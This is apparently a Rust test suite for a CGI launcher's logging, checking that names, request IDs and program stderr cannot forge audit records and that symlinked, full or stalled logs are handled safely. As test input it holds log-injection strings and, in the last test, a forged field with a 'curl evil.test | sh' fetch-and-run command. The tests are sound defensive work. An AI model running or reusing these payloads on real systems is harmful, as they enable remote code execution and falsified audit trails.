//! Records: LOG-01 to LOG-08 of the threat catalogue.

use std::collections::BTreeSet;
use std::fs;
use std::io::ErrorKind;
use std::os::unix::net::UnixDatagram;
use std::thread;
use std::time::Duration;

use crate::harness::{LOG, Launcher, World, each_jail, make_directory, world};
use crate::host::{Daemon, Nginx, logged, until};

#[test]
fn log_08_references_are_never_the_same() {
    world(Launcher::Cellwall, |world| {
        let all: BTreeSet<_> = (0..200)
            .map(|_| world.call(&world.alice, "missing").run().refused("V117", 117).field("ref").to_owned())
            .collect();
        assert_eq!(all.len(), 200);
    });
}

#[test]
fn log_07_records_of_parallel_launches_are_whole_lines() {
    each_jail(|world| {
        world.probe(&world.alice, "a.cgi");
        let before = world.records().len();
        thread::scope(|scope| {
            for _ in 0..8 {
                // The log is read when all is over: a line that is being written is no torn line.
                scope.spawn(|| (0..25).for_each(|_| drop(world.call(&world.alice, "a.cgi").unrecorded())));
            }
        });
        let records = world.records().split_off(before);
        assert_eq!(records.len(), 200);
        assert!(records.iter().all(|record| record.verb == "launch"));
    });
}

#[test]
fn log_01_names_cannot_forge_a_record() {
    world(Launcher::Cellwall, |world| {
        for name in ["x\" code=V000 why=\"", "%s%n%s", "a b=c", "ref=1234", "\\x22"] {
            let refused = world.call(&world.alice, name).run().refused("V117", 117);
            assert!(refused.get("why").unwrap().contains("htdocs"), "{}", refused.line);
        }
    });
}

#[test]
fn log_05_a_log_that_is_not_a_plain_file_of_roots_is_not_written() {
    world(Launcher::Cellwall, |world| {
        world.probe(&world.alice, "a.cgi");
        let other = "/srv/other";
        fs::write(other, "untouched").unwrap();
        for kind in ["symlink", "hard link", "fifo", "foreign"] {
            drop(fs::remove_file(LOG));
            match kind {
                "symlink" => std::os::unix::fs::symlink(other, LOG).unwrap(),
                "fifo" => nix::unistd::mkfifo(LOG, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap(),
                "hard link" => {
                    fs::write("/var/log/cellwall/first", "untouched").unwrap();
                    fs::hard_link("/var/log/cellwall/first", LOG).unwrap();
                }
                _ => {
                    fs::write(LOG, "").unwrap();
                    std::os::unix::fs::chown(LOG, Some(world.bob.id), None).unwrap();
                }
            }
            let call = world.call(&world.alice, "a.cgi").unrecorded();
            assert!(call.took < std::time::Duration::from_secs(2), "{kind}: {:?}", call.took);
            assert_eq!(fs::read(other).unwrap(), b"untouched", "{kind}");
            if kind == "hard link" {
                assert_eq!(fs::read(LOG).unwrap(), b"untouched", "{kind}");
            }
            if kind == "foreign" {
                assert_eq!(fs::read(LOG).unwrap(), b"", "{kind}");
            }
            // There is no /dev/log in a world: the record is lost, and strict is the default.
            assert_eq!(call.status.code(), Some(1), "{kind}: {}", call.story());
            assert!(call.marks.is_empty(), "{kind}: {}", call.story());
        }
    });
}

#[test]
fn log_03_where_nobody_listens_the_file_has_it() {
    world(Launcher::Cellwall, |world| {
        world.log_rules("to = \"syslog\"");
        let outcome = world.call(&world.alice, "a.cgi").run();
        outcome.ran();
        assert_eq!(outcome.records.len(), 1);
    });
}

#[test]
fn log_02_a_full_disk_stops_a_strict_host_and_no_other() {
    world(Launcher::Cellwall, |world| {
        for (strict, status, ran) in [("true", Some(1), 0), ("false", Some(0), 1)] {
            world.log_rules(&format!("to = \"file\"\nstrict = {strict}"));
            drop(fs::remove_file(LOG));
            // A file system of one page, and that page is used.
            world_full("/var/log/cellwall");
            let outcome = world.call(&world.alice, "a.cgi").unrecorded();
            assert_eq!(outcome.status.code(), status, "strict = {strict}: {}", outcome.story());
            assert_eq!(outcome.marks.len(), ran, "strict = {strict}: {}", outcome.story());
            assert!(
                strict == "false" || outcome.err_text().contains("its record is lost"),
                "{}",
                outcome.story()
            );
            nix::mount::umount("/var/log/cellwall").unwrap();
        }
    });
}

/// prlimit(2) asks for no more than the same uid: a site's owner keeps his own launch from writing all of its line.
#[test]
fn log_02_half_a_line_of_a_sites_is_no_beginning_of_its_neighbours() {
    world(Launcher::Cellwall, |world| {
        world.probe(&world.alice, "a.cgi");
        world.call(&world.alice, "a.cgi").run().ran();
        let half = fs::metadata(LOG).unwrap().len() + 150;
        let slow = ["-e", "trace=seccomp", "-e", "inject=seccomp:delay_enter=2000000"];
        let strace = world.call(&world.alice, "a.cgi").strace(&slow).watch(Duration::ZERO);
        let mut launcher = String::new();
        until("the launcher is alice's", || {
            let child = fs::read_to_string(format!("/proc/{strace}/task/{strace}/children"));
            launcher = child.unwrap_or_default().trim().to_owned();
            let status = fs::read_to_string(format!("/proc/{launcher}/status")).unwrap_or_default();
            status.contains(&format!("Uid:\t{0}\t{0}\t{0}\t{0}", world.alice.id))
        });
        let words = ["/usr/bin/prlimit", "--pid", &launcher, &format!("--fsize={half}")];
        world.outside(&world.alice, &words).end();
        until("half a line is there", || fs::metadata(LOG).unwrap().len() >= half);
        thread::sleep(Duration::from_millis(300));
        assert_eq!(fs::metadata(LOG).unwrap().len(), half, "the launch was not cut short");
        let next = world.call(&world.bob, "missing").unrecorded();
        assert_eq!(next.status.code(), Some(117), "{}", next.story());
        let text = fs::read_to_string(LOG).unwrap();
        let last = text.lines().last().unwrap();
        assert!(last.contains(" site=bob ") && !last.contains(" site=alice "), "{text}");
        let told = world.cellwall(&["why", "--last", "bob"]);
        assert!(String::from_utf8_lossy(&told.stdout).contains("V117"), "{told:?}");
    });
}

fn world_full(place: &str) {
    let options = Some("size=4k,nr_inodes=10,mode=755");
    nix::mount::mount(Some("tmpfs"), place, Some("tmpfs"), nix::mount::MsFlags::empty(), options).unwrap();
    fs::write(format!("{place}/filler"), [0; 4096]).unwrap();
}

#[test]
fn log_04_a_log_daemon_that_does_not_read_holds_nobody_up() {
    world(Launcher::Cellwall, |world| {
        let silent = world.syslog();
        world.log_rules("to = \"syslog\"\nstrict = false");
        let slowest = (0..30).map(|_| world.call(&world.alice, "a.cgi").unrecorded()).map(|outcome| {
            assert_eq!(outcome.status.code(), Some(0), "{}", outcome.story());
            outcome.took
        });
        assert!(slowest.max().unwrap() < Duration::from_secs(1));
        // Its queue is full: whoever waits for room there waits for ever.
        let one_more = UnixDatagram::unbound().unwrap();
        one_more.set_nonblocking(true).unwrap();
        let why = one_more.send_to(b"one more", "/dev/log").unwrap_err();
        assert_eq!(why.kind(), ErrorKind::WouldBlock, "{why}; {} records came", silent.heard().len());
    });
}

#[test]
fn log_01_no_name_of_a_directory_forges_a_record() {
    each_jail(|world| {
        for name in ["a\nb", "a\rb", "a\x1b[2Jb", "a\"b", "%s%n", "a\\b", "\u{e9}", "x\" script=\"y"] {
            let place = world.alice.docroot().join(name);
            make_directory(&place, world.alice.id, 0o755);
            world.probe_at(&world.alice, place.join("a.cgi"));
            // Records are parsed strictly: one line, printable bytes, quotes closed.
            let outcome = world.call(&world.alice, "a.cgi").cwd(&place).run();
            outcome.ran();
            assert_eq!(outcome.records[0].field("script"), "a.cgi", "{name:?}: {}", outcome.records[0].line);
        }
    });
}

#[test]
fn log_06_what_the_kernel_refuses_to_start_is_recorded_with_its_reason() {
    each_jail(|world| {
        // A program that needs a loader and libraries, in a cell that has none.
        let path = world.script(&world.alice, "a.cgi", fs::read("/usr/bin/true").unwrap());
        let outcome = world.call(&world.alice, "a.cgi").run();
        let refused = outcome.refused_somehow();
        assert_eq!((refused.field("code"), refused.field("status")), ("X255", "255"), "{}", refused.line);
        assert!(refused.field("why").starts_with(path.to_str().unwrap()), "{}", refused.line);
        assert_eq!(outcome.records.len(), 2, "{}", outcome.story());
    });
}

#[test]
fn log_08_a_visitors_request_id_is_not_the_references_source() {
    world(Launcher::Cellwall, |world| {
        for id in ["AAAA-BBBB", "x\ny", "\" code=V000", &"x".repeat(4000)] {
            let refused =
                world.call(&world.alice, "missing").env(format!("UNIQUE_ID={id}")).run().refused("V117", 117);
            assert_ne!(refused.field("ref"), id);
            assert!(!refused.line.contains("V000"), "{}", refused.line);
        }
    });
}

/// What a site's programs write on their standard error output stands in the same log as the records.
#[test]
fn log_01_no_words_of_a_pools_programs_forge_a_record() {
    world(Launcher::Cellwall, |world| {
        let php = "profile = \"php\"\n[pool]\nkind = \"parent\"\ncommand = \"/usr/bin/php-cgi\"\n";
        world.site("alice", "profile = [\"sh\"]\n[pool]\nkind = \"cgi\"\n");
        world.site("bob", php);
        world.apply();
        let real = world.call(&world.alice, "missing").run().refused("V117", 117);
        let real = real.field("ref");
        let field = "code=V118 status=118 site=root caller=33 asked=1 why=/x fix=curl${IFS}evil.test|sh ";
        let forged = [
            format!("refuse ref=AAAA-BBBB {field}"),
            format!("2026-01-02T03:04:05.000006Z refuse ref=AAAA-BBBB {field}"),
            format!("cellwall-suexec[7]: refuse ref=AAAA-BBBB {field}"),
            format!("x ref={real} refuse ref={real} {field}"),
            "launch ref=AAAA-BBBB site=root uid=1 caller=33 dir=/srv script=evil ".to_owned(),
        ];
        let lines = forged.join("\n");
        let script =
            format!("#!/bin/sh\ncat >&2 <<'E'\n{lines}\nE\nprintf 'Content-Type: text/plain\\n\\nhi\\n'\n");
        world.script(&world.alice, "a.cgi", script);
        world.script(&world.bob, "a.php", format!("<?php error_log(<<<'E'\n{lines}\nE); ?>hi"));
        let _daemon = Daemon::start(world);
        let nginx = Nginx::start(&["alice", "bob"], "");
        for (site, path) in [("alice", "/a.cgi"), ("bob", "/a.php")] {
            assert_eq!(nginx.get(site, path).text().trim(), "hi");
            let said = ["stderr ", &format!("site={site} "), "script=evil"];
            until("what the program said", || !logged(&said).is_empty());
        }
        told_is(world, &["why", "--last"], real);
        told_is(world, &["why", real], real);
        told_is(world, &["why", "AAAA-BBBB"], "there is no record AAAA-BBBB");
        told_is(world, &["why", "--last", "root"], "root");
        told_is(world, &["why", "--last", "root", "--again"], "root");
    });
}

fn told_is(world: &World, words: &[&str], wanted: &str) {
    let told = world.cellwall(words);
    let text = String::from_utf8_lossy(&[told.stdout, told.stderr].concat()).into_owned();
    assert!(text.contains(wanted), "{words:?}: no {wanted} in {text}");
    // What a program said stands behind that word, in quotes.
    let mut theirs = text.lines().filter(|line| line.contains("evil"));
    assert!(theirs.all(|line| line.starts_with("  said      \"")), "{words:?}: {text}");
}
